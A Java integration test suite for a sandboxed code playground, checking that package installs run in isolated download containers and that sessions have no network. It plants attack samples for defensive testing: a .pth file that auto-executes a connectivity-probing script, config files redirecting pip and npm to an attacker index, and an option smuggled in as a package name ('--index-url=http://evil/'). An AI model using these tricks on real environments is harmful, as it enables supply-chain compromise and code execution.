package dev.playground.session;

import static dev.playground.session.Api.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import com.github.dockerjava.api.DockerClient;
import dev.playground.contract.ContainerLabels;
import dev.playground.contract.preview.PreviewToken;
import dev.playground.contract.testing.KafkaTestBroker;
import dev.playground.session.docker.SessionContainers;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.testcontainers.DockerClientFactory;

@QuarkusTest
@QuarkusTestResource(KafkaTestBroker.class)
@QuarkusTestResource(SessionTestEnvironment.class)
class PackagesAndPreviewTest {

    /** Workspace code that tries to reach the outside (the egress proxy and the pip index) and says what it found. */
    private static final String PHONE_HOME = """
            import os, socket
            found = []
            for host, port in (("egress-proxy", 3128), ("1.1.1.1", 80)):
                try:
                    socket.create_connection((host, port), timeout=3).close()
                    found.append("reached %s" % host)
                except OSError as e:
                    found.append("blocked %s" % host)
            with open("/workspace/phoned-home.txt", "a") as f:
                f.write(" ".join(found) + "\\n")
            """;

    @Test
    void aPipInstalledPackageImportsInTheSessionThatHasNoNetwork() throws Exception {
        String owner = "pip-" + System.nanoTime();
        String id = Api.createSession(owner, Map.of("template", "python"));
        // Every download container, as it is created: how it is made (it is gone once the install returns).
        DockerClient docker = DockerClientFactory.instance().client();
        var downloads = new java.util.concurrent.LinkedBlockingQueue<com.github.dockerjava.api.command.InspectContainerResponse>();
        var events = docker.eventsCmd().withEventFilter("create")
                .withLabelFilter(Map.of(ContainerLabels.ROLE, SessionContainers.ROLE_DOWNLOAD,
                        ContainerLabels.ID, id))
                .exec(new com.github.dockerjava.api.async.ResultCallback.Adapter<com.github.dockerjava.api.model.Event>() {
                    @Override
                    public void onNext(com.github.dockerjava.api.model.Event e) {
                        downloads.add(docker.inspectContainerCmd(e.getId()).exec());
                    }
                });
        // before: not there
        assertThat(Api.exec(owner, id, "python3 -c 'import hello_pg'").get("exitCode")).isNotEqualTo(0);

        var install = as(owner).body(Map.of("manager", "pip", "packages", List.of("hello-pg==1.0")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(200).extract().as(Map.class);
        assertThat(install).containsEntry("exitCode", 0).containsEntry("timedOut", false);
        assertThat((String) install.get("output")).contains("Successfully installed hello-pg-1.0");

        var run = Api.exec(owner, id, "python3 -c 'import hello_pg; print(hello_pg.GREETING)'");
        assertThat(run.get("stdout")).isEqualTo(SessionTestEnvironment.WHEEL_GREETING + "\n");

        var download = downloads.poll(30, java.util.concurrent.TimeUnit.SECONDS);
        events.close();
        assertThat(download).as("the download container was seen").isNotNull();
        assertThat(download.getConfig().getUser()).isEqualTo("1000:1000");
        assertThat(download.getHostConfig().getNetworkMode()).isEqualTo("playground-egress-" + SessionTestEnvironment.instance);
        assertThat(download.getHostConfig().getReadonlyRootfs()).isTrue();
        assertThat(List.of(download.getHostConfig().getCapDrop())).containsExactly(com.github.dockerjava.api.model.Capability.ALL);
        assertThat(download.getHostConfig().getSecurityOpts()).contains("no-new-privileges");
        // no workspace, nothing of the user's: only the CA bundle comes in
        assertThat(download.getMounts()).allMatch(m -> "/etc/playground/extra-ca.pem".equals(m.getDestination().getPath())
                || "/tmp".equals(m.getDestination().getPath()));

        // options and URLs are not package names: refused before any container starts
        as(owner).body(Map.of("manager", "pip", "packages", List.of("--index-url=http://evil/")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(422)
                .contentType("application/problem+json");
        as(owner).body(Map.of("manager", "pip", "packages", List.of("./pip")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(422);
        as(owner).body(Map.of("manager", "apt", "packages", List.of("curl")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(422);
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    @Test
    void workspaceCodeAndConfigNeverRunWhereTheRegistryCanBeReached() {
        String owner = "attacker-" + System.nanoTime();
        String id = Api.createSession(owner, Map.of("template", "python"));
        // The attack of the issue: a pip of the user's own, ahead of the real one for `python3 -m pip` in /workspace;
        // a .pth file python runs at every start; a pip.conf pointing at the attacker's index.
        Api.sync(owner, id, List.of(
                Map.of("path", "pip/__init__.py", "content", ""),
                Map.of("path", "pip/__main__.py", "content", PHONE_HOME),
                Map.of("path", ".local/lib/python3.13/site-packages/zz-phone-home.pth",
                        "content", "import os; exec(open('/workspace/pip/__main__.py').read())\n"),
                Map.of("path", ".config/pip/pip.conf", "content", "[global]\nindex-url = http://203.0.113.1/simple/\n")));

        var install = as(owner).body(Map.of("manager", "pip", "packages", List.of("hello-pg==1.0")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(200).extract().as(Map.class);
        // The download ignored the workspace (its config, its pip) and fetched from the configured index...
        assertThat((String) install.get("output")).contains("Saved").contains("hello_pg-1.0");
        // ...and whatever of the user's ran during the install ran in the session, where nothing outside is reached.
        String phoned = (String) Api.exec(owner, id, "cat /workspace/phoned-home.txt 2>/dev/null || true").get("stdout");
        assertThat(phoned).doesNotContain("reached");
        assertThat(phoned).as("the user's .pth ran inside the session during the install").contains("blocked egress-proxy");
        assertThat(Api.exec(owner, id, "ls /sys/class/net").get("stdout")).isEqualTo("lo\n");
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    @Test
    void aRegistryThatCannotBeReachedIsAClearProblemWithinTheTimeout() {
        String owner = "offline-" + System.nanoTime();
        String id = Api.createSession(owner, Map.of("template", "python"));
        DockerClient docker = DockerClientFactory.instance().client();
        String proxy = egressProxy(docker);
        String network = "playground-egress-" + SessionTestEnvironment.instance;
        docker.disconnectFromNetworkCmd().withNetworkId(network).withContainerId(proxy).exec();
        try {
            long started = System.nanoTime();
            as(owner).body(Map.of("manager", "pip", "packages", List.of("hello-pg==1.0")))
                    .post("/api/v1/sessions/" + id + "/packages").then().statusCode(502)
                    .contentType("application/problem+json")
                    .body("type", equalTo("https://playground.dev/problems/registry-unreachable"))
                    .body("detail", containsString("did not answer through the egress proxy"));
            assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofMinutes(1));
        } finally {
            docker.connectToNetworkCmd().withNetworkId(network).withContainerId(proxy)
                    .withContainerNetwork(new com.github.dockerjava.api.model.ContainerNetwork()
                            .withAliases("egress-proxy")).exec();
        }
        // nothing was installed, and the session is as it was
        assertThat(Api.exec(owner, id, "python3 -c 'import hello_pg'").get("exitCode")).isNotEqualTo(0);
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    @Test
    void installsNeedARunningSessionAndALeftoverDownloadIsRemoved() {
        String owner = "stopped-" + System.nanoTime();
        String id = Api.createSession(owner, Map.of("template", "python"));
        as(owner).post("/api/v1/sessions/" + id + "/stop").then().statusCode(200);
        as(owner).body(Map.of("manager", "pip", "packages", List.of("hello-pg==1.0")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(409)
                .body("detail", containsString("RUNNING"));

        // A download container whose installer died (its deadline passed) is removed by the reconciler.
        DockerClient docker = DockerClientFactory.instance().client();
        Map<String, String> labels = new HashMap<>(ContainerLabels.of(SessionTestEnvironment.instance,
                ContainerLabels.KIND_SESSION, id, owner));
        labels.put(ContainerLabels.ROLE, SessionContainers.ROLE_DOWNLOAD);
        labels.put(ContainerLabels.DEADLINE, Long.toString(Instant.now().getEpochSecond() - 1));
        String leftover = docker.createContainerCmd("playground/runtime-python:latest").withLabels(labels)
                .withCmd("sleep", "600").exec().getId();
        docker.startContainerCmd(leftover).exec();
        // (the reconciler runs every 2 s in tests)
        Api.await("the leftover download container is removed", Duration.ofSeconds(60),
                () -> docker.listContainersCmd().withShowAll(true).withIdFilter(List.of(leftover)).exec().isEmpty());
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    @Test
    void aSessionWithPortsHasNoNetworkAndItsPreviewUrlIsAnOriginOfItsOwn() {
        String owner = "preview-" + System.nanoTime();
        String id = as(owner).body(Map.of("template", "node", "ports", List.of(3000)))
                .post("/api/v1/sessions").then().statusCode(201)
                .body("ports[0].port", equalTo(3000))
                .body("ports[0].previewUrl", startsWith("http://"))
                .extract().path("id");
        String previewUrl = as(owner).get("/api/v1/sessions/" + id).then().extract().path("ports[0].previewUrl");
        assertThat(previewUrl).startsWith("http://" + id + "-3000.preview.test:8080/?token=");
        var token = PreviewToken.verify(previewUrl.substring(previewUrl.indexOf("token=") + 6),
                SessionTestEnvironment.PREVIEW_SECRET.getBytes(StandardCharsets.UTF_8), Instant.now());
        assertThat(token).hasValueSatisfying(t -> {
            assertThat(t.sessionId()).isEqualTo(id);
            assertThat(t.port()).isEqualTo(3000);
            assertThat(t.owner()).isEqualTo(owner);
        });
        as(owner).get("/internal/sessions/" + id).then().statusCode(200)
                .body("ports", equalTo(List.of(3000)))
                .body("host", equalTo("local"));

        // No network at all, ports or not: only the loopback, and nothing outside answers.
        assertThat(Api.exec(owner, id, "ls /sys/class/net").get("stdout")).isEqualTo("lo\n");
        var out = Api.exec(owner, id, "node -e \"require('net').connect(80, '1.1.1.1')"
                + ".on('connect', () => { console.log('open'); process.exit(0) })"
                + ".on('error', e => { console.log('blocked ' + e.code); process.exit(0) })"
                + "; setTimeout(() => { console.log('blocked timeout'); process.exit(0) }, 3000)\"");
        assertThat((String) out.get("stdout")).startsWith("blocked");
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    @Test
    void anNpmPackageInstallsThroughTheProxyWithTheOperatorsTrustedCa() {
        String owner = "npm-" + System.nanoTime();
        String id = Api.createSession(owner, Map.of("template", "node"));
        // A workspace .npmrc naming another registry is not what the download uses.
        Api.sync(owner, id, List.of(Map.of("path", ".npmrc", "content", "registry=http://203.0.113.1/\n")));
        var install = as(owner).body(Map.of("manager", "npm", "packages", List.of("is-number@7.0.0")))
                .post("/api/v1/sessions/" + id + "/packages").then().statusCode(200).extract().as(Map.class);
        assertThat(install.get("exitCode")).as("npm output: %s", install.get("output")).isEqualTo(0);
        var run = Api.exec(owner, id, "node -e \"console.log(require('is-number')(42))\"");
        assertThat(run.get("stdout")).isEqualTo("true\n");
        as(owner).get("/api/v1/sessions/" + id + "/files/package.json").then().statusCode(200)
                .body(containsString("is-number"));
        as(owner).delete("/api/v1/sessions/" + id).then().statusCode(204);
    }

    private static String egressProxy(DockerClient docker) {
        return docker.listContainersCmd().withLabelFilter(Map.of(ContainerLabels.INSTANCE, SessionTestEnvironment.instance))
                .withAncestorFilter(List.of("playground/egress-proxy:latest")).exec().get(0).getId();
    }
}
